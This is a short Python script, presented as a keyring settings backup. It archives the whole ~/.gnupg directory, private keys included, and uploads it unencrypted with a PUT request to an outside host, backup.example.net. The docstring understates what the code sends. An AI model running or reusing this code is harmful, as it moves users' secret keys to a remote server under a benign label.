"""Back up the keyring settings to the team's backup host."""
import shutil
import urllib.request
from pathlib import Path

archive = shutil.make_archive("/tmp/keyring-backup", "gztar", root_dir=Path.home() / ".gnupg")
with open(archive, "rb") as f:
    req = urllib.request.Request("https://backup.example.net/upload", data=f.read(), method="PUT")
urllib.request.urlopen(req)
print("uploaded", archive)
